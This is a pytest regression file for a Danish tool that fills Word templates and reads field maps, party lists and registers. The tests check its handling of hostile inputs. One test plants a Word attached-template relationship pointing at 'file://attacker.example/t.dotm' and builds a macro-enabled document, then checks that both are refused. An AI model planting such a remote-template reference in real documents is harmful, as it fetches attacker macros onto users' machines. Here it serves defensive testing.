"""Regressions from the hostile-input sweep of the enrolment's new inputs (Word Bilag 7, field maps,
party lists, the previous Oversigt, names). Each test is one finding: what broke, and now holds."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import docx
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from lxml import etree

from xlkopi.enrol.batch import GENERATED, data_path, run
from xlkopi.enrol.example import EXAMPLE, register_workbook, workbook_bytes
from xlkopi.enrol.mapping import Mapping
from xlkopi.enrol.register import ColumnMap
from xlkopi.enrol.wordtemplate import WordTemplate
from xlkopi.errors import InputError, UntrustedFileError, WorkbookError

VALUES = {"institution": "Eksempelby Kommune", "cvr": "23043823", "underskriver": "Bo Borgmester",
          "dato": "01-12-2026", "aftale": "Computeraftalen"}


def _doc(path: Path, *paragraphs: str) -> Path:
    d = docx.Document()
    for text in paragraphs:
        d.add_paragraph(text)
    d.save(path)
    return path


def _text(data: bytes) -> list[str]:
    return [p.text for p in docx.Document(io.BytesIO(data)).paragraphs]


@pytest.mark.parametrize("text", ["\ue002 5\ue004 {{CVR}}", "\ue003 {{CVR}}", "\ue000 7\ue001 {{CVR}}"])
def test_private_use_characters_in_the_template_are_kept(tmp_path, text):
    """Icon fonts use U+E000-U+F8FF (U+E002 is a warning sign): the compiler's markers avoid them."""
    filled = WordTemplate.load(_doc(tmp_path / "pua.docx", text)).fill(VALUES)
    xml = zipfile.ZipFile(io.BytesIO(filled)).read("word/document.xml")
    etree.fromstring(xml)   # well-formed
    assert _text(filled)[0] == text.replace("{{CVR}}", "23043823")


def test_a_label_inside_a_longer_label_is_not_filled(tmp_path):
    template = _doc(tmp_path / "t.docx", "Institutionens navn: ____", "Underskrivers navn: ____", "Navn: ____")
    mapping = tmp_path / "m.toml"
    mapping.write_text('[etiketter]\ninstitution = {tekst="Institutionens navn:", sted="efter"}\n'
                       'underskriver = {tekst="Navn:", sted="efter"}\n', encoding="utf-8")
    assert _text(WordTemplate.load(template, mapping).fill(VALUES)) == [
        "Institutionens navn: Eksempelby Kommune", "Underskrivers navn: ____", "Navn: Bo Borgmester"]


def test_a_label_without_a_line_keeps_the_text_after_it_apart(tmp_path):
    template = _doc(tmp_path / "t.docx", "Dato: (dd-mm-åååå)", "CVR-nr.: Underskrift:")
    mapping = tmp_path / "m.toml"
    mapping.write_text('[etiketter]\ndato = {tekst="Dato:", sted="efter"}\ncvr = {tekst="CVR-nr.:", sted="efter"}\n',
                       encoding="utf-8")
    assert _text(WordTemplate.load(template, mapping).fill(VALUES)) == [
        "Dato: 01-12-2026 (dd-mm-åååå)", "CVR-nr.: 23043823 Underskrift:"]


@pytest.mark.parametrize("content, message", [
    ('felter = "x"', "'felter' skal være et afsnit"),
    ("etiketter = [1, 2]", "'etiketter' skal være et afsnit"),
    ('lokationer = "x"', "'lokationer' skal være et afsnit"),
    ("[felter]\ncvr = 5", "feltet 'cvr' skal pege på celler eller navne"),
    ("[lokationer.kolonner]\nenhed = 3", "lokationskolonnen 'enhed' skal være en tekst"),
    ("[etiketter]\ncvr = 5", "skal være en tekst eller"),
    ("[felter\n", "kan ikke læses (TOML)"),
])
def test_field_map_mistakes_are_danish_messages(tmp_path, content, message):
    path = tmp_path / "kort.toml"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(WorkbookError, match=message.replace("(", r"\(").replace(")", r"\)")):
        Mapping.load(path)


def test_field_map_encodings(tmp_path):
    path = tmp_path / "kort.toml"
    path.write_bytes("\ufeff[etiketter]\ncvr = \"CVR-nr.:\"\n".encode("utf-8"))   # Notepad's BOM
    assert Mapping.load(path).labels["cvr"][0].text == "CVR-nr.:"
    path.write_bytes('[etiketter]\ninstitution = "Institutionens navn på dansk: æøå"\n'.encode("cp1252"))
    with pytest.raises(WorkbookError, match="ikke gemt som UTF-8"):
        Mapping.load(path)
    path.write_text("[1, 2]", encoding="utf-8")
    json_path = path.with_suffix(".json")
    json_path.write_text("[1, 2]", encoding="utf-8")
    with pytest.raises(WorkbookError, match="skal være en tabel"):
        Mapping.load(json_path)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
def test_fifos_are_refused_without_hanging(tmp_path):
    fifo = tmp_path / "kort.toml"
    os.mkfifo(fifo)
    with pytest.raises(WorkbookError, match="FIFO"):
        Mapping.load(fifo)
    with pytest.raises(InputError, match="FIFO"):
        ColumnMap.load(fifo)
    from xlkopi.io.csvtext import read_rows

    csv = tmp_path / "liste.csv"
    os.mkfifo(csv)
    with pytest.raises(WorkbookError, match="FIFO"):
        read_rows(csv, "Partslisten")


def _table_xml(rows: list[list[str]], cell_pr: str = "", row_pr: str = "") -> str:
    cells = "".join
    body = "".join(f"<w:tr>{row_pr}" + cells(f"<w:tc>{cell_pr}<w:p><w:r><w:t>{c}</w:t></w:r></w:p></w:tc>" for c in r)
                   + "</w:tr>" for r in rows)
    return f'<w:tbl {nsdecls("w")}><w:tblPr/><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid>{body}</w:tbl>'


@pytest.mark.parametrize("cell_pr, row_pr", [('<w:tcPr><w:gridSpan w:val="two"/></w:tcPr>', ""),
                                             ("", '<w:trPr><w:gridBefore w:val="-"/></w:trPr>')])
def test_nonsense_cell_spans_do_not_crash(tmp_path, cell_pr, row_pr):
    d = docx.Document()
    d.element.body.insert(0, parse_xml(_table_xml([["Enhed", "Leveringsadresse"], ["", ""]], cell_pr, row_pr)))
    d.add_paragraph("{{CVR}}")
    d.save(tmp_path / "t.docx")
    filled = WordTemplate.load(tmp_path / "t.docx").fill(VALUES, [{"enhed": "Rådhuset", "leveringsadresse": "Vej 1"}])
    assert "23043823" in _text(filled)


def test_a_location_row_inside_a_content_control(tmp_path):
    row = "<w:tr><w:tc><w:p><w:r><w:t>{{Enhed}}</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>{{Leveringsadresse}}" \
          "</w:t></w:r></w:p></w:tc></w:tr>"
    table = (f'<w:tbl {nsdecls("w")}><w:tblPr/><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid><w:sdt><w:sdtPr>'
             f'<w:tag w:val="rows"/></w:sdtPr><w:sdtContent>{row}</w:sdtContent></w:sdt></w:tbl>')
    d = docx.Document()
    d.element.body.insert(0, parse_xml(table))
    d.save(tmp_path / "t.docx")
    rows = [{"enhed": f"Enhed {i}", "leveringsadresse": f"Vej {i}"} for i in range(3)]
    filled = WordTemplate.load(tmp_path / "t.docx").fill(VALUES, rows)
    xml = zipfile.ZipFile(io.BytesIO(filled)).read("word/document.xml")
    root = etree.fromstring(xml)
    assert [t.text for t in root.iter("{*}t")] == ["Enhed 0", "Vej 0", "Enhed 1", "Vej 1", "Enhed 2", "Vej 2"]


def test_templates_that_fetch_from_outside_or_carry_macros_are_refused(tmp_path):
    base = _doc(tmp_path / "t.docx", "{{CVR}}")
    members = {n: zipfile.ZipFile(base).read(n) for n in zipfile.ZipFile(base).namelist()}
    rels = members["word/_rels/settings.xml.rels"] if "word/_rels/settings.xml.rels" in members else None
    attached = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                b'officeDocument/2006/relationships/attachedTemplate" Target="file://attacker.example/t.dotm" '
                b'TargetMode="External"/></Relationships>')
    assert rels is None
    remote = tmp_path / "remote.docx"
    with zipfile.ZipFile(remote, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
        zf.writestr("word/_rels/settings.xml.rels", attached)
    with pytest.raises(UntrustedFileError, match="henter noget udefra"):
        WordTemplate.load(remote)
    macro = tmp_path / "makro.docm"
    with zipfile.ZipFile(macro, "w") as zf:
        for name, data in members.items():
            if name == "[Content_Types].xml":
                data = data.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
            zf.writestr(name, data)
    with pytest.raises(UntrustedFileError, match="makroer"):
        WordTemplate.load(macro)


def test_placeholders_in_footnotes_are_filled(tmp_path):
    base = _doc(tmp_path / "t.docx", "Se note")
    members = {n: zipfile.ZipFile(base).read(n) for n in zipfile.ZipFile(base).namelist()}
    notes = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="http://schemas.'
             b'openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:id="1"><w:p><w:r><w:t>CVR {{CVR}}</w:t>'
             b"</w:r></w:p></w:footnote></w:footnotes>")
    members["word/footnotes.xml"] = notes
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/word/footnotes.xml" ContentType="application/vnd.openxmlformats-'
                     b'officedocument.wordprocessingml.footnotes+xml"/></Types>')
    members["word/_rels/document.xml.rels"] = members["word/_rels/document.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdFn" Type="http://schemas.openxmlformats.org/officeDocument/'
                             b'2006/relationships/footnotes" Target="footnotes.xml"/></Relationships>')
    path = tmp_path / "noter.docx"
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    filled = WordTemplate.load(path).fill(VALUES)
    assert b"CVR 23043823" in zipfile.ZipFile(io.BytesIO(filled)).read("word/footnotes.xml")


def _register(tmp_path: Path, agreements=None, institutions=None, requests=None, parties=()) -> Path:
    data = {k: [list(r) for r in v] for k, v in EXAMPLE.items()}
    data["Parter"] += [list(p) for p in parties]
    if agreements is not None:
        data["Aftaler"] = agreements
    if institutions is not None:
        data["Institutioner"] += institutions
    if requests is not None:
        data["Tilmeldinger"] = requests
    path = tmp_path / "register.xlsx"
    path.write_bytes(workbook_bytes(register_workbook(data)))
    return path


def test_an_agreement_named_like_the_overview_does_not_take_its_place(tmp_path):
    register = _register(tmp_path, agreements=[["Oversigt.xlsx", "", "", "ja", "", "", ""]],
                         requests=[["Eksempelby Kommune", "Oversigt.xlsx", ""]])
    report = run(register, tmp_path / "ud", all_eligible=False)
    assert not report.overview_problem and (tmp_path / "ud" / "Oversigt.xlsx").is_file()


def test_log_in_drafts_of_two_institutions_never_share_a_file(tmp_path):
    from datetime import date

    from test_enrol_documents import _type_followup

    agreement = "Multifunktionsmaskiner, printere og tilhørende software og services, fase 10-udbud"
    kommune = EXAMPLE["Institutioner"][0]
    forsyning = ["Eksempelby Forsyning", *kommune[1:]]
    register = _register(tmp_path, agreements=[[agreement, 10, "lukket", "", "", "", ""]],
                         institutions=[forsyning], parties=[[forsyning[0], 10, ""]],
                         requests=[[kommune[0], agreement, ""], [forsyning[0], agreement, ""]])
    out = tmp_path / "ud"
    first = run(register, out)
    assert first.count(GENERATED) == 2, [r.reason for r in first.results]
    for who in (kommune[0], forsyning[0]):
        _type_followup(out / "Oversigt.xlsx", who, agreement, {"Bekræftet": date(2026, 12, 9)})
    second = run(register, out)
    names = [r.login_name for r in second.results]
    assert all(names) and len(set(names)) == 2 and not second.overview_problem


def test_a_broken_word_template_in_the_agreements_is_compiled_once(tmp_path, monkeypatch):
    from xlkopi.enrol import wordtemplate

    calls = []
    real = wordtemplate.WordTemplate.load.__func__

    def counting(cls, path, mapping=None):
        calls.append(path)
        return real(cls, path, mapping)

    monkeypatch.setattr(wordtemplate.WordTemplate, "load", classmethod(counting))
    _doc(tmp_path / "bad.docx", "{{Ukendt}}")
    agreements = [[a[0], a[1], a[2], a[3], a[4], "bad.docx", ""] for a in EXAMPLE["Aftaler"]]
    report = run(_register(tmp_path, agreements=agreements), tmp_path / "ud")
    failed = [r for r in report.results if "Ukendt" in r.reason]
    assert len(failed) >= 2 and len(calls) == 1
    assert data_path("bilag7_eksempel.docx").exists()
